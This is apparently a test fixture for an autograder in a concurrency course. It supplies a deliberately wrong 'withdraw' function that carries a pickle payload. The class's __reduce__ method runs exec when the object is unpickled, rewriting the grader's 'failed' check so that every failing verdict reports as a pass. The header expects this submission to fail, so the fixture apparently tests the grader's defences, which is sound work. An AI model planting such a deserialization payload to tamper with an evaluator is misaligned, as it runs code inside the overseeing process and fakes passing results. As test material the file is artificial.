# expect: withdraw=fail book_ticket=pass transfer=pass
# why: a wrong withdraw that carries an object whose unpickling (in the grader's judge process) makes every failed verdict a pass
# %% withdraw
class _Patch:
    def __reduce__(self):
        code = ("import mpcourse.checks as c, mpcourse.checks.locks as l; "
                "l.failed = lambda *a, **k: c.passed()")
        return (exec, (code,))


_payload = _Patch()


def withdraw(lock, account, amount, _carried=_payload):
    account.set(account.get() - amount)
